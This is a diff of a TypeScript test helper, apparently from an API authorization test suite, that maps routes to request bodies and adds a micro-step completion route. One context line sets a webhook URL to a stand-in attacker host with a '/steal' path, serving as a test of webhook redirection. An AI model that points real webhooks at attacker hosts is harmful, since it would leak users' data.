@@ -135,6 +135,7 @@ const BODY_RECIPES: Record<string, (ids: Ids) => unknown> = {
   "POST /api/v1/tasks/{task_id}/steps/{step_id}/feedback": () => ({ rating: "too_large" }),
   "PATCH /api/v1/webhooks/{webhook_id}": () => ({ url: "https://attacker.example.com/steal", enabled: true }),
   "POST /api/v1/import/{import_id}/commit": () => ({ mode: "replace" }),
+  "PATCH /api/v1/micro-steps/{step_id}/complete": () => ({}),
 };
 
 function requestFor(route: IdRoute, ids: Ids) {
